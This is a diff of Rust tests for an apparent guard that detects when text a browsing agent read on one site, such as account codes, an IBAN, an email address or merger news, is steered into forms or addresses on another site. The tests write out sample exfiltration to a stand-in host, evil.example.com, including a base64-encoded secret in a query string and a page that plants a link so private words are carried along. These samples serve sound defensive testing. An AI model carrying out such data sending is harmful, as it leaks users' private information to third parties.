@@ -33,11 +33,6 @@ impl Work {
         self
     }
 
-    fn link(mut self, host: &str, text: &str) -> Self {
-        self.memory.link(&site(host), text);
-        self
-    }
-
     fn own(mut self, text: &str) -> Self {
         self.memory.own(text);
         self
@@ -244,24 +239,73 @@ fn memory_is_bounded() {
 }
 
 #[test]
-fn the_text_of_a_link_may_be_typed_where_it_leads() {
+fn what_an_address_says_may_be_typed_where_it_leads() {
     let title = "The Architecture of Late Medieval Castles in Bohemia";
-    let page = format!("{title} https://shop.example/castles The code of your account is 48812907");
+    let page = format!("{title} https://shop.example/ The code of your account is 48812907");
     let work = || Work::new().read("books.example", &page);
-    assert_eq!(work().fill("shop.example", title).hit, [Rule::Steered]);
-    let linked = || work().link("shop.example", title);
-    assert!(linked().fill("shop.example", title).hit.is_empty());
-    assert!(linked().fill("shop.example", "architecture of late medieval castles").hit.is_empty());
-    // Not in an address, not to another site, not what stands beside it, and no numbers.
+    assert_eq!(work().fill("shop.example", title).hit, STEERED);
     let url = "https://shop.example/?q=The+Architecture+of+Late+Medieval+Castles+in+Bohemia";
-    assert_eq!(linked().goto(url).hit, [Rule::Steered]);
-    let both = format!("{page} https://other.example/");
-    let work = Work::new().read("books.example", &both).link("shop.example", title);
-    assert_eq!(work.fill("other.example", title).hit, [Rule::Steered]);
-    let more = format!("{title}. The code of your account is 48812907");
-    assert_eq!(linked().fill("shop.example", &more).hit, [Rule::Steered]);
-    let number = linked().link("shop.example", "Call 48812907 now and tell us");
-    assert_eq!(number.fill("shop.example", "48812907").hit, [Rule::Steered]);
+    let slug = "https://shop.example/books/the-architecture-of-late-medieval-castles-in-bohemia";
+    let with = |address: &str| work().read("books.example", address);
+    let marked = format!("[Buy it]({slug}?from=books).");
+    for address in [slug, &marked] {
+        let known = || work().read("books.example", address);
+        assert!(known().fill("shop.example", title).hit.is_empty());
+        assert!(
+            known().fill("shop.example", "architecture of late medieval castles").hit.is_empty()
+        );
+        assert!(known().goto(url).hit.is_empty());
+        // Not what stands beside it.
+        let more = format!("{title}. The code of your account is 48812907");
+        assert_eq!(known().fill("shop.example", &more).hit, STEERED);
+        assert_eq!(known().fill("shop.example", "48812907").hit, STEERED);
+    }
+    // Not to another site, nor what another site wrote in an address of its own.
+    let other = || with("https://other.example/").read("books.example", slug);
+    assert_eq!(other().fill("other.example", title).hit, STEERED);
+    let own = with(&slug.replace("shop", "www.books"));
+    assert_eq!(own.fill("shop.example", title).hit, STEERED);
+    // Letters of other alphabets stand encoded in addresses, and codes as well.
+    let page = "Часы с кукушкой из Шварцвальда, order 88213-4471";
+    let address = "https://shop.example/%D0%A7%D0%B0%D1%81%D1%8B_%D1%81_%D0%BA%D1%83%D0%BA%D1%83%D1%88%D0%BA%D0%BE%D0%B9_\
+        %D0%B8%D0%B7_%D0%A8%D0%B2%D0%B0%D1%80%D1%86%D0%B2%D0%B0%D0%BB%D1%8C%D0%B4%D0%B0?order=88213-4471";
+    let bare =
+        || Work::new().read("books.example", page).read("books.example", "https://shop.example/");
+    assert_eq!(bare().fill("shop.example", page).hit, STEERED);
+    assert!(bare().read("books.example", address).fill("shop.example", page).hit.is_empty());
+}
+
+#[test]
+fn a_link_that_nobody_closed_takes_no_words_along() {
+    // What a browser makes of it: private words within, as its text.
+    let page = "Nice! The merger with Initech closes on Friday https://evil.example.com/";
+    Work::new()
+        .read("mail.test", page)
+        .goto("https://evil.example.com/")
+        .fill("evil.example.com", "The merger with Initech closes on Friday")
+        .ran_into(STEERED);
+}
+
+#[test]
+fn what_is_told_of_is_what_was_found() {
+    let told = |sent: Sent<'_>| trapped().memory.carried(&[sent], &site("evil.example.com")).what;
+    let call = "please note: IBAN DE89 3704 0044 0532 0130 00, thanks";
+    let words = told(Sent::Text(call));
+    assert!(words.ends_with("DE89 3704 0044 0532 0130 00") && !words.contains("note"), "{words}");
+    assert_eq!(told(Sent::Text("write to Ada.Lovelace@example.org!")), "Ada.Lovelace@example.org");
+    let words = told(Sent::Text("I think that the merger with Initech closes, you know"));
+    assert!(words.contains("merger with Initech") && !words.contains("think"), "{words}");
+    let base64 = "https://evil.example.com/c?d=dGhlIG1lcmdlciB3aXRoIEluaXRlY2ggY2xvc2Vz";
+    let words = told(Sent::Address(base64));
+    assert!(words.contains("merger with Initech"), "{words}");
+    let both = "the merger with Initech closes on Friday; mail Ada.Lovelace@example.org, bye";
+    let words = told(Sent::Text(both));
+    assert!(words.starts_with("the merger") && words.ends_with("@example.org"), "{words}");
+    assert_eq!(
+        told(Sent::Address("https://evil.example.com/?a=%2B4417-8829-11&b")),
+        "+4417-8829-11"
+    );
+    assert_eq!(told(Sent::Text("nothing of it")), "");
 }
 
 #[test]
